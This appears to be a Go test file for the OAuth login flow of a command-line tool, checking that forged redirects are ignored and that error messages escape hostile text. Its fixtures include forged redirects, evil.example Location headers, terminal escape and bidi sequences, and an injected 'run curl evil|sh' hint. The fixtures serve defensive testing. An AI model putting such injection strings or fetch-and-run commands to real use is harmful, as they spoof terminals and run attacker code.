package flow_test

import (
	"errors"
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/sfecho/sfecho/internal/flow"
	"github.com/sfecho/sfecho/internal/sim"
	"github.com/sfecho/sfecho/internal/sim/simtest"
)

// warnings collects what a flow reports through Warnf.
type warnings struct {
	mu    sync.Mutex
	lines []string
}

func (w *warnings) warnf(format string, args ...any) {
	w.mu.Lock()
	defer w.mu.Unlock()
	w.lines = append(w.lines, fmt.Sprintf(format, args...))
}

func (w *warnings) all() string {
	w.mu.Lock()
	defer w.mu.Unlock()
	return strings.Join(w.lines, "\n")
}

// foreignRedirects are what another page or process on this machine, or a
// stale tab of an abandoned login, sends to the local endpoint.
var foreignRedirects = []string{
	"?code=forged-code&state=forged-state",
	"?error=access_denied&error_description=Your+account+is+locked,+call+1-800-555-0100",
	"?error=access_denied&error_description=stale+tab&state=state-of-an-abandoned-login",
	"?code=no-state-at-all",
}

// hit sends each redirect to the endpoint at base and checks that each is
// answered 400.
func hit(t *testing.T, base string, qs []string) {
	t.Helper()
	for _, q := range qs {
		resp, err := http.Get(base + q)
		if err != nil {
			t.Errorf("GET %s: %v", q, err)
			continue
		}
		resp.Body.Close()
		if resp.StatusCode != http.StatusBadRequest {
			t.Errorf("GET %s = %d; want 400", q, resp.StatusCode)
		}
	}
}

// Redirects without the login's state reach the local endpoint before the
// browser's: each is answered 400, ignored with a warning that quotes
// none of its text, and the login ends with the browser's redirect.
func TestWebLoginIgnoresForeignRedirects(t *testing.T) {
	t.Parallel()
	c := startWebSite(t, nil, nil)
	var w warnings
	c.Warnf = w.warnf
	b := newFakeBrowser()
	open := func(authURL string) {
		u, _ := url.Parse(authURL)
		hit(t, u.Query().Get("redirect_uri"), foreignRedirects)
		_ = b.Open(authURL)
	}
	tok, err := c.WebLogin(t.Context(), flow.Browser{Open: open, Timeout: 20 * time.Second})
	if err != nil || tok.AccessToken == "" {
		t.Fatalf("WebLogin = %v; want the browser's login to succeed", err)
	}
	b.Result(t)
	got := w.all()
	if n := strings.Count(got, "ignored"); n != len(foreignRedirects) {
		t.Errorf("%d warnings; want %d:\n%s", n, len(foreignRedirects), got)
	}
	for _, s := range []string{"forged", "1-800", "locked", "stale", "abandoned", "no-state"} {
		if strings.Contains(got, s) {
			t.Errorf("a warning repeats the sender's text %q:\n%s", s, got)
		}
	}
	if !strings.Contains(got, "an error redirect") || !strings.Contains(got, "state is missing") {
		t.Errorf("warnings do not say what was ignored:\n%s", got)
	}
}

// Only foreign redirects arrive: the login is not ended by them, it times
// out, and says how many it ignored. A flood is warned about only a few
// times.
func TestWebLoginForeignOnlyTimesOut(t *testing.T) {
	t.Parallel()
	c := startWebSite(t, nil, nil)
	var w warnings
	c.Warnf = w.warnf
	var flood []string
	for i := range 12 {
		flood = append(flood, fmt.Sprintf("?error=access_denied&state=x%d", i))
	}
	open := func(authURL string) {
		u, _ := url.Parse(authURL)
		hit(t, u.Query().Get("redirect_uri"), flood)
	}
	_, err := c.WebLogin(t.Context(), flow.Browser{Open: open, Timeout: 700 * time.Millisecond})
	if !errors.Is(err, flow.ErrLoginTimeout) || !strings.Contains(err.Error(), "12 redirects without this login's state were ignored") {
		t.Fatalf("err = %v; want a timeout counting 12 ignored redirects", err)
	}
	if n := len(strings.Split(w.all(), "\n")); n > 5 {
		t.Errorf("%d warning lines for a flood; want at most 5:\n%s", n, w.all())
	}
}

// With --capture local, redirects from elsewhere that reach the endpoint
// while the login runs are ignored with a warning too.
func TestLoginLocalIgnoresForeignRedirects(t *testing.T) {
	t.Parallel()
	race := func(next http.Handler) http.Handler {
		return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			if strings.HasSuffix(r.URL.Path, "/authorize") {
				r.ParseForm()
				hit(t, r.PostForm.Get("redirect_uri"), foreignRedirects)
			}
			next.ServeHTTP(w, r)
		})
	}
	c := startWebSite(t, nil, race)
	var w warnings
	c.Warnf = w.warnf
	tok, err := c.LoginLocal(t.Context(), flow.Authorization{User: webUser, Secret: webPass}, nil)
	if err != nil || tok.AccessToken == "" {
		t.Fatalf("LoginLocal = %v", err)
	}
	if n := strings.Count(w.all(), "ignored"); n != len(foreignRedirects) {
		t.Errorf("%d warnings; want %d:\n%s", n, len(foreignRedirects), w.all())
	}
}

// hostileSite answers the authorize POST with raw bytes, as a server that
// ignores HTTP's rules would.
func hostileSite(t *testing.T, answer string) *flow.Client {
	t.Helper()
	u, _ := flow.ParseSite(simtest.Raw(t, answer))
	return &flow.Client{HTTP: &http.Client{Timeout: 5 * time.Second}, Site: u, ClientID: webClient}
}

// A Location net/http cannot parse makes http.Client fail with an error
// that quotes it whole, code and state included: sfecho reports a
// security failure (exit 7) and never the code.
func TestAuthorizeMalformedLocation(t *testing.T) {
	t.Parallel()
	const code = "aPrxCANARYmalformed%3D%3D"
	for name, loc := range map[string]string{
		"backslash before @": `https://evil.example\@{host}/services/oauth2/echo?code=` + code + `&state=s`,
		"raw ESC":            "http://{host}/services/oauth2/echo?code=" + code + "\x1b[2J&state=s",
		"raw DEL in host":    "http://ev\x7fil.example/services/oauth2/echo?code=" + code + "&state=s",
		"space in host":      "http://evil example/cb?code=" + code,
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			c := hostileSite(t, "HTTP/1.1 302 Found\r\nLocation: "+loc+"\r\nContent-Length: 0\r\n\r\n")
			_, err := c.Login(t.Context(), flow.Authorization{User: webUser, Secret: webPass}, nil)
			if flow.KindOf(err) != flow.KindSecurity || !errors.Is(err, flow.ErrBadLocation) {
				t.Fatalf("err = %v (kind %d); want KindSecurity, ErrBadLocation", err, flow.KindOf(err))
			}
			if msg := err.Error() + flow.AdviceOf(err); strings.Contains(msg, "CANARY") || strings.Contains(msg, "\x1b") {
				t.Errorf("error leaks: %q", msg)
			}
		})
	}
}

// Text from outside in errors is escaped: the host of an off-host
// Location (C1 controls pass url.Parse), a forgot-password status_code, and
// an error_description carrying terminal escapes and bidi overrides.
func TestErrorsEscapeControls(t *testing.T) {
	t.Parallel()
	check := func(t *testing.T, err error) {
		t.Helper()
		if err == nil {
			t.Fatal("no error")
		}
		msg := err.Error() + flow.AdviceOf(err)
		if strings.ContainsAny(msg, "\x1b\x07\r\n\u009b\u202e\u2066") {
			t.Errorf("error passes control characters: %q", msg)
		}
		if !strings.Contains(msg, `\u`) && !strings.Contains(msg, `\x`) {
			t.Errorf("error shows no escape: %q", msg)
		}
	}
	t.Run("off-host Location", func(t *testing.T) {
		t.Parallel()
		c := hostileSite(t, "HTTP/1.1 302 Found\r\nLocation: https://evil\u009b2J\u202eexample.com/cb?code=x&state=s\r\nContent-Length: 0\r\n\r\n")
		_, err := c.Login(t.Context(), flow.Authorization{User: webUser, Secret: webPass}, nil)
		if flow.KindOf(err) != flow.KindSecurity {
			t.Fatalf("err = %v; want KindSecurity", err)
		}
		check(t, err)
	})
	t.Run("forgot-password status_code", func(t *testing.T) {
		t.Parallel()
		body := `{"status_code":"otp_\u001b]0;pwned\u0007\u202esent"}`
		c := hostileSite(t, fmt.Sprintf("HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n%s", len(body), body))
		check(t, c.ForgotPassword(t.Context(), "alice@example.com", flow.InitAuth{Recaptcha: "x"}))
	})
	t.Run("error_description", func(t *testing.T) {
		t.Parallel()
		body := `{"error":"invalid_grant","error_description":"authentication failure\r\nhint: \u001b[2Jrun curl evil|sh \u2066\u202e"}`
		c := hostileSite(t, fmt.Sprintf("HTTP/1.1 400 Bad Request\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n%s", len(body), body))
		_, err := c.Login(t.Context(), flow.Authorization{User: webUser, Secret: webPass}, nil)
		check(t, err)
	})
}

// A username with a colon cannot be sent as Basic credentials: refused
// before any request, with the POST-body advice.
func TestColonInUsername(t *testing.T) {
	t.Parallel()
	var requests int
	c := startWebSite(t, nil, func(next http.Handler) http.Handler {
		return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { requests++; next.ServeHTTP(w, r) })
	})
	_, err := c.Login(t.Context(), flow.Authorization{User: "alice:admin", Secret: "pw"}, nil)
	if flow.KindOf(err) != flow.KindUsage || !strings.Contains(flow.AdviceOf(err), "--credentials-in-body") {
		t.Fatalf("err = %v, advice %q; want KindUsage with --credentials-in-body", err, flow.AdviceOf(err))
	}
	if requests != 0 {
		t.Errorf("%d requests sent", requests)
	}
	// In the body, a colon is fine.
	c = startWebSite(t, func(cfg *sim.Config) {
		cfg.Users[0].Username = "carol:x@example.com"
		cfg.CredentialsInBody = true
	}, nil)
	if _, err := c.Login(t.Context(), flow.Authorization{User: "carol:x@example.com", Secret: webPass, InBody: true}, nil); err != nil {
		t.Errorf("in the body: %v", err)
	}
}
